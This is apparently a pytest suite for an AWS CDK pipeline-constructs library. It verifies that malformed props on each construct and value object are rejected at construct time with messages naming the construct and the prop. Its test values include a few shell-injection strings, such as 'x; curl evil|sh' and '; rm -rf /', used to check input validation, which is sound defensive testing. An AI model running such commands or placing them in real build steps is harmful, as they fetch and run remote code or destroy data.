"""Every prop of every public construct and value object, given malformed input, fails at construct time.

For each prop the table names its kind (a name, a sequence, a duration...); each kind has the
malformed values people pass (a bare string for a list, ``1`` for ``True``, a trailing newline,
non-ASCII digits, ``None`` for a required prop, a value past the service limit...). Every case must
raise ``TypeError`` or ``ValueError`` before anything is synthesized, and the message must name
where (the construct path or the value object) and the prop. A valid baseline per builder shows that
each failure comes from the one malformed prop.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import aws_cdk as cdk
import pytest
from aws_cdk import aws_ec2 as ec2
from aws_cdk import aws_lambda as lambda_
from aws_cdk import aws_secretsmanager as secretsmanager
from aws_cdk import pipelines
from conftest import EXAMPLES

from pipeline_constructs import DeploymentTarget, SecurePipeline, SecurityGatedStage, TestReports
from pipeline_constructs.dotnet_lambda import DotnetLambdaFunction, DotnetLambdaPipeline, DotnetLambdaStage
from pipeline_constructs.glue_etl import (
    GlueCondition,
    GlueCrawler,
    GlueEtlPipeline,
    GlueEtlSpec,
    GlueEtlStage,
    GlueEtlWorkload,
    GlueShellJob,
    GlueSparkJob,
    GlueTrigger,
    GlueWorkflow,
)
from pipeline_constructs.kda_app import (
    ApplicationBuild,
    ApplicationSource,
    FlinkApplication,
    FlinkCode,
    FlinkSettings,
    KdaApplicationStack,
    KdaAppPipeline,
    ReleaseChannel,
)
from pipeline_constructs.multi_region_layer.pipeline import LayerSharing, MultiRegionLayerPipeline
from pipeline_constructs.redshift_migration import (
    DatabaseEndpoint,
    MigrationCommands,
    RedshiftMigrationPipeline,
    SecretFields,
)
from pipeline_constructs.steps.lambda_invoke import LambdaInvokeStep

ENV = cdk.Environment(account="111111111111", region="eu-west-1")
CONNECTION = "arn:aws:codeconnections:eu-west-1:111111111111:connection/00000000-0000-0000-0000-000000000000"
DOTNET_PROJECT = EXAMPLES / "dotnet_lambda" / "src" / "HelloWorld"
GLUE_SCRIPTS = EXAMPLES / "glue_etl" / "glue_jobs"
HANDLER = "HelloWorld::HelloWorld.Function::FunctionHandler"

# ---------------------------------------------------------------------------- malformed values by kind

_SEQ = [("str", "abc"), ("int", 42), ("dict", {"a": 1}), ("bad_item", [42])]
_NAME = [
    ("int", 42),
    ("empty", ""),
    ("newline", "abc\n"),
    ("arabic_digit", "ab\u0661"),
    ("list", ["abc"]),
    ("long", "a" * 300),
]
_MAPPING = [("str", "x"), ("list", ["a"]), ("int", 42)]
_IFACE = [("str", "x"), ("int", 42), ("dict", {})]
BAD: dict[str, list[tuple[str, Any]]] = {
    "name": [*_NAME, ("none", None)],
    "opt_name": _NAME,
    "text": [("int", 42), ("list", ["x"]), ("huge", "x" * 5000)],
    "bool": [("str", "yes"), ("int", 1), ("none", None)],
    "opt_bool": [("str", "yes"), ("int", 1)],
    "int": [("str", "1"), ("float", 1.5), ("bool", True), ("negative", -1), ("huge", 10**9)],
    "int_min": [("str", "1"), ("float", 1.5), ("bool", True), ("negative", -1)],
    "seq": _SEQ,
    "seq_required": [*_SEQ, ("empty", []), ("none", None)],
    "commands": [("str", "npx cdk synth"), ("int", 42), ("bad_item", [42]), ("blank_item", ["  "])],
    "duration": [("int", 5), ("str", "5 minutes"), ("huge", cdk.Duration.days(3650))],
    "duration_no_max": [("int", 5), ("str", "5 minutes")],
    "enum": [("str", "X"), ("int", 1)],
    "iface": _IFACE,
    "iface_required": [*_IFACE, ("none", None)],
    "path": [("parent", "../x"), ("abs", "/x"), ("shell", "x; curl evil|sh"), ("newline", "x\ny"), ("int", 42)],
    "dir": [("int", 42), ("missing", "/nonexistent/dir"), ("empty", "")],
    "mapping": _MAPPING,
    "kwargs": [*_MAPPING, ("unknown_key", {"nope": 1})],
    "callable": [("str", "f"), ("int", 1)],
    "opt_command": [("int", 42), ("list", ["x"]), ("empty", ""), ("blank", "  ")],
    "account": [("short", "11111111111"), ("arabic", "\u0661" * 12), ("newline", "111111111111\n"), ("int", 1)],
    "region": [("nodash", "eu-west1"), ("unknown", "eu-west-9"), ("newline", "eu-west-1\n"), ("int", 1)],
    "emails": [("str", "a@example.com"), ("bad_item", ["not-an-email"]), ("int", 1)],
    "cron": [("five_fields", "cron(0 10 * * ?)"), ("minute_75", "cron(75 10 * * ? *)"), ("int", 1)],
    "lambda_env": [*_MAPPING, ("bad_key", {"1X": "v"}), ("reserved", {"AWS_REGION": "x"}), ("int_value", {"K1": 1})],
}


@dataclass
class Builder:
    """Builds one construct (or value object) from valid props, with ``overrides`` replacing some."""

    where: str  # regex the message starts with
    build: Callable[[dict[str, Any]], Any]
    props: dict[str, str]  # prop -> kind
    extra: dict[str, list[tuple[str, Any]]] = field(default_factory=dict)  # prop -> more malformed values


# The env of every stack the builders create (a test swaps in a malformed one).
STACK_ENV = [ENV]


def _stack() -> cdk.Stack:
    return cdk.Stack(cdk.App(context={"aws:cdk:bundling-stacks": []}), "S", env=STACK_ENV[0])


def _source() -> pipelines.CodePipelineSource:
    return pipelines.CodePipelineSource.connection("o/r", "main", connection_arn=CONNECTION)


def _dev() -> DeploymentTarget:
    return DeploymentTarget(name="Dev", account="111111111111", region="eu-west-1")


def _spec() -> GlueEtlSpec:
    return GlueEtlSpec(database="db", scripts_dir=GLUE_SCRIPTS)


def _app_stage(app: cdk.App, name: str = "Prod") -> cdk.Stage:
    stage = cdk.Stage(app, name, env=ENV)
    cdk.CfnWaitConditionHandle(cdk.Stack(stage, "App"), "Marker")
    return stage


def _gated(kw: dict[str, Any]) -> SecurityGatedStage:
    stack = _stack()
    pipeline = SecurePipeline(stack, "P", synth=pipelines.ShellStep("Synth", input=_source(), commands=["x"]))
    props = {"pipeline": pipeline.pipeline, "stage": _app_stage(stack.node.root), **kw}
    return SecurityGatedStage(stack, "G", **props)


def _redshift_database(kw: dict[str, Any]) -> DatabaseEndpoint:
    secret = secretsmanager.Secret.from_secret_name_v2(_stack(), "Secret", "s/test")
    return DatabaseEndpoint(**{"secret": secret, "peer": ec2.Peer.ipv4("10.0.0.0/24"), **kw})


def _redshift(kw: dict[str, Any]) -> RedshiftMigrationPipeline:
    stack = _stack()
    vpc = ec2.Vpc.from_vpc_attributes(
        stack, "Vpc", vpc_id="vpc-1", availability_zones=["eu-west-1a"], private_subnet_ids=["subnet-p1"]
    )
    secret = secretsmanager.Secret.from_secret_name_v2(stack, "Secret", "s/test")
    props = {
        "source": _source(),
        "vpc": vpc,
        "targets": [_dev()],
        "databases": {"Dev": DatabaseEndpoint.from_peer(ec2.Peer.ipv4("10.0.0.0/24"), secret=secret)},
        **kw,
    }
    return RedshiftMigrationPipeline(stack, "M", **props)


def _invoke_step(kw: dict[str, Any]) -> LambdaInvokeStep:
    stack = _stack()
    function = lambda_.Function.from_function_arn(stack, "F", "arn:aws:lambda:eu-west-1:111111111111:function:f")
    return LambdaInvokeStep(**{"id": "Notify", "function": function, **kw})


BUILDERS: dict[str, Builder] = {
    "DeploymentTarget": Builder(
        r"DeploymentTarget",
        lambda kw: DeploymentTarget(
            **{
                "name": "Prod",
                "account": "222222222222",
                "region": "eu-west-1",
                "manual_approval": True,
                "security_gated": True,
                "notification_emails": ("a@example.com",),
                "approval_comment": "Approve it.",
                **kw,
            }
        ),
        {
            "name": "name",
            "account": "account",
            "region": "region",
            "manual_approval": "bool",
            "security_gated": "bool",
            "notification_emails": "emails",
            "approval_comment": "text",
        },
        {"name": [("space", "prod stage"), ("digit_first", "1Prod")]},
    ),
    "SecurePipeline": Builder(
        r"S/P",
        lambda kw: SecurePipeline(
            _stack(), "P", **{"synth": pipelines.ShellStep("Synth", input=_source(), commands=["x"]), **kw}
        ),
        {
            "synth": "iface_required",
            "pipeline_name": "opt_name",
            "targets": "seq",
            "cross_account_keys": "opt_bool",
            "self_mutation": "bool",
            "docker_enabled_for_synth": "bool",
            "log_retention": "enum",
            "compute_type": "enum",
            "code_build_defaults": "iface",
            "synth_code_build_defaults": "iface",
            "cli_version": "opt_name",
            "removal_policy": "enum",
            "pipeline_props": "kwargs",
        },
        {"cli_version": [("latest", "latest"), ("shell", "2.1.0; curl x")], "pipeline_name": [("space", "a b")]},
    ),
    "SecurityGatedStage": Builder(
        r"S/G",
        _gated,
        {
            "pipeline": "iface_required",
            "stage": "iface_required",
            "notification_topic": "iface",
            "notification_emails": "emails",
            "topic_key": "iface",
            "manual_approval": "bool",
            "approval_name": "opt_name",
            "approval_comment": "text",
            "pre": "seq",
            "post": "seq",
        },
    ),
    "DotnetLambdaFunction": Builder(
        r"S/F",
        lambda kw: DotnetLambdaFunction(_stack(), "F", **{"project_dir": DOTNET_PROJECT, "handler": HANDLER, **kw}),
        {
            "project_dir": "dir",
            "handler": "name",
            "runtime": "iface",
            "architecture": "iface",
            "memory_size": "int",
            "timeout": "duration",
            "environment": "lambda_env",
            "log_retention": "enum",
            "function_props": "kwargs",
        },
        {
            "runtime": [("python", lambda_.Runtime.PYTHON_3_13)],
            "timeout": [("sixteen_minutes", cdk.Duration.minutes(16)), ("fraction", cdk.Duration.millis(1500))],
            "memory_size": [("below", 127)],
            "function_props": [("own_prop", {"timeout": cdk.Duration.seconds(5)})],
            "handler": [("no_method", "HelloWorld::FunctionHandler")],
        },
    ),
    "DotnetLambdaStage": Builder(
        r"Prod",
        lambda kw: DotnetLambdaStage(
            cdk.App(context={"aws:cdk:bundling-stacks": []}),
            "Prod",
            **{"target": _dev(), "project_dir": DOTNET_PROJECT, "handler": HANDLER, **kw},
        ),
        {"target": "iface_required", "function_options": "kwargs", "stack_name": "opt_name"},
    ),
    "DotnetLambdaPipeline": Builder(
        r"S/P",
        lambda kw: DotnetLambdaPipeline(
            _stack(),
            "P",
            **{
                "source": _source(),
                "targets": [_dev()],
                "project_dir": DOTNET_PROJECT,
                "handler": HANDLER,
                "test_project": "test/HelloWorld.Tests",
                **kw,
            },
        ),
        {
            "source": "iface_required",
            "targets": "seq_required",
            "project_dir": "dir",
            "handler": "name",
            "test_project": "path",
            "pipeline_name": "opt_name",
            "dotnet_channel": "opt_name",
            "synth": "iface",
            "app_dir": "path",
            "synth_commands": "commands",
            "bundle_in_docker": "bool",
            "function_options": "kwargs",
            "stage_factory": "callable",
            "pipeline_options": "kwargs",
        },
        {
            "test_project": [("missing", "tests/Nope.Tests")],
            "dotnet_channel": [("latest", "latest"), ("shell", "10.0; curl x")],
            "function_options": [
                ("project_dir", {"project_dir": "x"}),
                ("timeout", {"timeout": cdk.Duration.minutes(20)}),
                ("environment", {"environment": {"AWS_REGION": "x"}}),
            ],
            "pipeline_options": [
                ("reserved", {"docker_enabled_for_synth": True}),
                ("reserved_synth", {"synth": _source()}),
                ("unknown", {"nope": 1}),
            ],
            "synth": [("with_test_project", pipelines.ShellStep("Own", input=_source(), commands=["x"]))],
        },
    ),
    "GlueEtlPipeline": Builder(
        r"S/P",
        lambda kw: GlueEtlPipeline(
            _stack(), "P", **{"source": _source(), "spec": _spec(), "targets": [_dev()], "job_tests": "tests", **kw}
        ),
        {
            "source": "iface_required",
            "spec": "iface_required",
            "targets": "seq_required",
            "job_tests": "path",
            "app_dir": "path",
            "test_image": "iface",
            "test_install_commands": "seq",
            "test_compute_type": "enum",
            "synth": "iface",
            "synth_commands": "commands",
            "pipeline_name": "opt_name",
            "workload_options": "kwargs",
            "stage_factory": "callable",
            "pipeline_options": "kwargs",
        },
        {
            "job_tests": [("missing", "no_such_tests")],
            "workload_options": [("spec", {"spec": "x"}), ("bad_name", {"security_configuration_name": "a b"})],
            "pipeline_options": [("reserved", {"synth": None})],
        },
    ),
    "GlueEtlWorkload": Builder(
        r"S/W",
        lambda kw: GlueEtlWorkload(_stack(), "W", **{"spec": _spec(), **kw}),
        {
            "spec": "iface_required",
            "encryption_key": "iface",
            "removal_policy": "enum",
            "data_lifecycle_rules": "seq",
            "log_retention": "enum",
            "security_configuration_name": "opt_name",
        },
    ),
    "GlueEtlStage": Builder(
        r"Dev",
        lambda kw: GlueEtlStage(cdk.App(), "Dev", **{"target": _dev(), "spec": _spec(), **kw}),
        {"target": "iface_required", "spec": "iface_required", "workload_options": "kwargs", "stack_name": "opt_name"},
    ),
    "GlueSparkJob": Builder(
        r"GlueSparkJob",
        lambda kw: GlueSparkJob(**{"name": "j", "script": "j_neherlab_denorm_etl.py", **kw}),
        {
            "name": "name",
            "script": "name",
            "arguments": "mapping",
            "reads": "seq",
            "writes": "seq",
            "emits_events": "bool",
            "max_retries": "int",
            "timeout": "duration",
            "max_concurrent_runs": "int_min",
            "description": "text",
            "glue_version": "enum",
            "worker_type": "enum",
            "number_of_workers": "int_min",
            "bookmarks": "bool",
        },
        {
            "arguments": [
                ("managed", {"--TempDir": "x"}),
                ("bad_key", {"OUTPUT": "x"}),
                ("placeholder", {"--X": "{y}"}),
            ],
            "reads": [("bad_bucket", ["s3://Bad_Bucket/x/"]), ("wildcard", ["x/*"])],
            "script": [("not_python", "clean.sh")],
            "timeout": [("seconds", cdk.Duration.seconds(90))],
        },
    ),
    "GlueShellJob": Builder(
        r"GlueShellJob",
        lambda kw: GlueShellJob(**{"name": "j", "script": "j_emit_start_event.py", **kw}),
        {"name": "name", "max_capacity": "enum", "emits_events": "bool"},
    ),
    "GlueCrawler": Builder(
        r"GlueCrawler",
        lambda kw: GlueCrawler(**{"name": "c", "s3_targets": ("raw/",), **kw}),
        {
            "name": "name",
            "s3_targets": "seq_required",
            "table_prefix": "opt_name",
            "update_behavior": "enum",
            "delete_behavior": "enum",
            "exclusions": "seq",
            "configuration": "mapping",
            "description": "text",
        },
        {"configuration": [("not_json", {"x": object()})], "table_prefix": [("upper", "Raw_")]},
    ),
    "GlueCondition": Builder(
        r"GlueCondition",
        lambda kw: GlueCondition(**{"name": "j", **kw}),
        {"name": "name", "state": "name"},
        {"state": [("unknown", "DONE")]},
    ),
    "GlueTrigger": Builder(
        r"GlueTrigger",
        lambda kw: GlueTrigger(**{"name": "t", "actions": ("j",), "schedule": "cron(0 10 1 * ? *)", **kw}),
        {
            "name": "name",
            "actions": "seq_required",
            "schedule": "cron",
            "logical": "enum",
            "enabled": "bool",
            "description": "text",
        },
    ),
    "GlueWorkflow": Builder(
        r"GlueWorkflow",
        lambda kw: GlueWorkflow(**{"name": "w", "triggers": (GlueTrigger(name="t", actions=("j",)),), **kw}),
        {
            "name": "name",
            "triggers": "seq_required",
            "max_concurrent_runs": "int_min",
            "run_properties": "mapping",
            "description": "text",
        },
        {"run_properties": [("int_value", {"k": 1})]},
    ),
    "GlueEtlSpec": Builder(
        r"GlueEtlSpec",
        lambda kw: GlueEtlSpec(**{"database": "db", "scripts_dir": GLUE_SCRIPTS, **kw}),
        {
            "database": "name",
            "scripts_dir": "dir",
            "jobs": "seq",
            "crawlers": "seq",
            "workflows": "seq",
            "database_description": "text",
        },
        {"database": [("upper", "Sales")]},
    ),
    "KdaAppPipeline": Builder(
        r"S/P",
        lambda kw: KdaAppPipeline(
            _stack(),
            "P",
            **{
                "application_name": "orders",
                "targets": [_dev()],
                "application_source": ApplicationSource.connection("o/app", "main", connection_arn=CONNECTION),
                "source": _source(),
                **kw,
            },
        ),
        {
            "application_name": "name",
            "targets": "seq_required",
            "application_source": "iface_required",
            "source": "iface_required",
            "synth_commands": "commands",
            "app_dir": "path",
            "build": "iface",
            "flink": "iface",
            "initial_code": "iface",
            "stream_shard_count": "int_min",
            "stream_retention": "duration",
            "update_timeout": "duration",
            "start_application": "bool",
            "release_prefix": "name",
            "pipeline_name": "opt_name",
            "application_pipeline_name": "opt_name",
            "extend_stack": "callable",
            "pipeline_options": "kwargs",
        },
        {
            "application_name": [("upper", "Orders_App")],
            "release_prefix": [("absolute", "/builds/"), ("no_slash", "builds")],
            "stream_retention": [("one_hour", cdk.Duration.hours(1))],
            "update_timeout": [("seconds", cdk.Duration.seconds(30))],
        },
    ),
    "KdaApplicationStack": Builder(
        r"S",
        lambda kw: KdaApplicationStack(
            cdk.App(context={"aws:cdk:bundling-stacks": []}),
            "S",
            **{"application_name": "orders-dev", "env": ENV, **kw},
        ),
        {
            "application_name": "name",
            "flink": "iface",
            "initial_code": "iface",
            "release": "iface",
            "flink_role_name": "opt_name",
            "stream_shard_count": "int_min",
            "stream_retention": "duration",
            "log_retention": "enum",
            "removal_policy": "enum",
        },
    ),
    "ReleaseChannel": Builder(
        r"ReleaseChannel",
        lambda kw: ReleaseChannel(
            **{
                "bucket_name": "orders-releases",
                "prefix": "builds/",
                "account": "111111111111",
                "region": "eu-west-1",
                "update_function_role_name": "orders-update",
                "updater_role_name": "orders-dev-updater",
                **kw,
            }
        ),
        {
            "bucket_name": "name",
            "prefix": "name",
            "account": "account",
            "region": "region",
            "update_function_role_name": "name",
            "updater_role_name": "name",
        },
    ),
    "FlinkSettings": Builder(
        r"FlinkSettings",
        lambda kw: FlinkSettings(**kw),
        {
            "runtime": "enum",
            "parallelism": "int",
            "parallelism_per_kpu": "int",
            "auto_scaling": "bool",
            "checkpoint_interval": "duration_no_max",
            "min_pause_between_checkpoints": "duration_no_max",
            "log_level": "enum",
            "metrics_level": "enum",
            "property_groups": "mapping",
            "system_rollback": "bool",
            "allow_non_restored_state": "bool",
            "kpu_quota": "int_min",
        },
        {
            "parallelism_per_kpu": [("nine", 9)],
            "parallelism": [("over_quota", 65)],
            "checkpoint_interval": [("too_short", cdk.Duration.millis(10))],
            "property_groups": [("bad_id", {"bad group": {"k": "v"}}), ("empty", {"g": {}}), ("int", {"g": {"k": 1}})],
        },
    ),
    "FlinkApplication": Builder(
        r"S/A",
        lambda kw: FlinkApplication(_stack(), "A", **{"code": FlinkCode.bootstrap(), **kw}),
        {
            "code": "iface_required",
            "settings": "iface",
            "application_name": "opt_name",
            "role_name": "opt_name",
            "log_group": "iface",
            "log_encryption_key": "iface",
            "log_retention": "enum",
            "description": "text",
            "removal_policy": "enum",
        },
    ),
    "ApplicationSource.connection": Builder(
        r"ApplicationSource\.connection",
        lambda kw: ApplicationSource.connection(**{"repo_string": "o/r", "connection_arn": CONNECTION, **kw}),
        {"repo_string": "name", "branch": "name", "connection_arn": "name", "trigger_on_push": "bool"},
        {
            "branch": [("dots", "a..b"), ("space", "my branch"), ("lock", "x.lock")],
            "connection_arn": [("iam", "arn:aws:iam::111111111111:role/x")],
        },
    ),
    "ApplicationBuild.maven": Builder(
        r"ApplicationBuild",
        lambda kw: ApplicationBuild.maven(**kw),
        {"project_directory": "path", "artifact": "name", "arguments": "seq", "java": "name"},
        {"arguments": [("shell", ["; rm -rf /"])], "java": [("old", "corretto8")], "artifact": [("up", "../x.jar")]},
    ),
    "ApplicationBuild.python_zip": Builder(
        r"ApplicationBuild",
        lambda kw: ApplicationBuild.python_zip(**kw),
        {"project_directory": "path", "install_commands": "seq", "test_command": "opt_command", "python": "name"},
    ),
    "RedshiftMigrationPipeline": Builder(
        r"S/M",
        _redshift,
        {
            "source": "iface_required",
            "targets": "seq_required",
            "vpc": "iface_required",
            "databases": "mapping",
            "commands": "iface",
            "synth": "iface",
            "synth_commands": "commands",
            "app_dir": "path",
            "pipeline_name": "opt_name",
            "subnet_selection": "iface",
            "https_egress": "iface",
            "build_environment": "iface",
            "timeout": "duration",
            "stage_factory": "callable",
            "pipeline_options": "kwargs",
        },
        {
            "timeout": [("one_minute", cdk.Duration.minutes(1))],
            "synth_commands": [("masked", ["cdk synth || true"])],
            "databases": [("missing", {}), ("none_item", {"Dev": None})],
            "pipeline_options": [("reserved", {"targets": []})],
        },
    ),
    "SecretFields": Builder(
        r"SecretFields",
        lambda kw: SecretFields(**kw),
        {"host": "name", "port": "name", "db_name": "name", "username": "name", "password": "name"},
        {"host": [("colon", "a:b")]},
    ),
    "DatabaseEndpoint": Builder(
        r"DatabaseEndpoint",
        _redshift_database,
        {
            "secret": "iface_required",
            "port": "int",
            "allow_ingress": "bool",
            "peer": "iface_required",
            "secret_fields": "iface",
        },
    ),
    "MigrationCommands": Builder(
        r"MigrationCommands",
        lambda kw: MigrationCommands(**{"test": ("mvn -B test",), "migrate": ("mvn -B process-resources",), **kw}),
        {
            "test": "commands",
            "migrate": "commands",
            "reports_directory": "path",
            "reports_files": "seq_required",
            "install": "commands",
            "runtime_versions": "mapping",
        },
        {"migrate": [("runs_tests", ("mvn -B verify",))], "test": [("skips_tests", ("mvn -B test -DskipTests",))]},
    ),
    "MigrationCommands.maven": Builder(
        r"MigrationCommands",
        lambda kw: MigrationCommands.maven(**kw),
        {"directory": "path", "extra_args": "seq", "java": "name"},
    ),
    "MultiRegionLayerPipeline": Builder(
        r"S/P",
        lambda kw: MultiRegionLayerPipeline(
            _stack(),
            "P",
            **{
                "source": _source(),
                "targets": [DeploymentTarget(name="Virginia", account="111111111111", region="us-east-1")],
                "layer_name": "deps",
                "compatible_runtimes": [lambda_.Runtime.NODEJS_24_X],
                **kw,
            },
        ),
        {
            "source": "iface_required",
            "targets": "seq_required",
            "layer_name": "name",
            "compatible_runtimes": "seq_required",
            "compatible_architectures": "seq",
            "layer_directory": "path",
            "build_commands": "commands",
            "output_directory": "path",
            "build_environment": "iface",
            "sharing": "iface",
            "license_info": "text",
            "description": "text",
            "parameter_name": "opt_name",
            "synth": "iface",
            "synth_commands": "commands",
            "app_dir": "path",
            "pipeline_name": "opt_name",
            "distributor_timeout": "duration",
            "pipeline_options": "kwargs",
        },
        {
            "targets": [
                ("other_account", [DeploymentTarget(name="Other", account="222222222222", region="us-east-1")]),
                (
                    "security_gated",
                    [DeploymentTarget(name="Gated", account="111111111111", region="us-east-1", security_gated=True)],
                ),
                (
                    "same_region",
                    [
                        DeploymentTarget(name="A", account="111111111111", region="us-east-1"),
                        DeploymentTarget(name="B", account="111111111111", region="us-east-1"),
                    ],
                ),
                ("other_partition", [DeploymentTarget(name="China", account="111111111111", region="cn-north-1")]),
            ],
            "parameter_name": [
                ("aws", "/aws/x"),
                ("ssm_upper", "/SSM/x"),
                ("no_slash", "x/y"),
                ("long", "/" + "a" * 2048),
            ],
            "pipeline_options": [
                ("removal_policy", {"removal_policy": "destroy"}),
                ("log_retention", {"log_retention": 30}),
            ],
        },
    ),
    "LayerSharing": Builder(
        r"LayerSharing",
        lambda kw: LayerSharing(**kw),
        {"accounts": "seq", "organization_id": "opt_name", "public": "bool"},
        {"accounts": [("short", ["11111111111"]), ("arabic", ["\u0661" * 12]), ("newline", ["111111111111\n"])]},
    ),
    "LambdaInvokeStep": Builder(
        r"LambdaInvokeStep",
        _invoke_step,
        {
            "id": "name",
            "function": "iface_required",
            "inputs": "seq",
            "user_parameters": "mapping",
            "user_parameters_string": "text",
            "region": "region",
            "role": "iface",
            "variables_namespace": "opt_name",
        },
    ),
    "TestReports": Builder(
        r"S/R",
        lambda kw: TestReports(_stack(), "R", **{"base_directory": "reports", **kw}),
        {
            "base_directory": "path",
            "format": "enum",
            "files": "seq_required",
            "report_group_name": "opt_name",
            "removal_policy": "enum",
        },
    ),
}


def _cases() -> list[Any]:
    out = []
    for builder_name, builder in BUILDERS.items():
        for prop, kind in builder.props.items():
            for case, value in [*BAD[kind], *builder.extra.get(prop, [])]:
                out.append(pytest.param(builder_name, prop, value, id=f"{builder_name}-{prop}-{case}"))
    return out


CASES = _cases()


@pytest.mark.parametrize("builder_name", list(BUILDERS))
def test_the_baseline_is_valid(builder_name):
    BUILDERS[builder_name].build({})


@pytest.mark.parametrize(("builder_name", "prop", "value"), CASES)
def test_malformed_prop_fails_at_construct_time_naming_where_and_the_prop(builder_name, prop, value):
    builder = BUILDERS[builder_name]
    with pytest.raises((TypeError, ValueError)) as raised:
        builder.build({prop: value})
    message = str(raised.value)
    assert re.match(builder.where, message), message
    assert re.search(rf"\b{re.escape(prop)}\b", message), message
    assert " is invalid: " in message, message


def test_the_suite_covers_hundreds_of_cases():
    assert len(CASES) > 500, len(CASES)


@pytest.mark.parametrize(
    ("env", "message"),
    [
        (cdk.Environment(account="11111111111", region="eu-west-1"), r"env\.account of stack 'S' = '11111111111'"),
        (cdk.Environment(account="111111111111", region="eu-west1"), r"env\.region of stack 'S' = 'eu-west1'"),
    ],
)
@pytest.mark.parametrize(
    "builder_name",
    [
        "SecurePipeline",
        "DotnetLambdaPipeline",
        "GlueEtlPipeline",
        "KdaAppPipeline",
        "RedshiftMigrationPipeline",
        "MultiRegionLayerPipeline",
    ],
)
def test_the_stacks_own_env_is_validated_when_the_construct_is_created(builder_name, env, message):
    STACK_ENV[0] = env
    try:
        with pytest.raises(ValueError, match=rf"^S/[A-Z]: {message}"):
            BUILDERS[builder_name].build({})
    finally:
        STACK_ENV[0] = ENV


def test_notification_emails_without_a_security_gate_are_rejected():
    with pytest.raises(ValueError, match=r"DeploymentTarget\('Dev'\): notification_emails = .* only a security_gated"):
        DeploymentTarget(name="Dev", account="111111111111", region="eu-west-1", notification_emails=("a@example.com",))


def test_a_redshift_secret_outside_its_target_account_is_rejected():
    stack = _stack()
    secret = secretsmanager.Secret.from_secret_complete_arn(
        stack, "Other", "arn:aws:secretsmanager:eu-west-1:999999999999:secret:db-AbCdEf"
    )
    databases = {"Dev": DatabaseEndpoint.from_peer(ec2.Peer.ipv4("10.0.0.0/24"), secret=secret)}
    with pytest.raises(ValueError, match=r"S/M: databases\['Dev'\]\.secret = .*999999999999.* the target's account"):
        _redshift({"databases": databases})


def test_a_dotnet_app_dir_with_a_space_is_quoted():
    pipeline = BUILDERS["DotnetLambdaPipeline"].build({"app_dir": "my app", "test_project": None})
    assert "cd 'my app'" in pipeline.secure_pipeline.pipeline.synth.commands
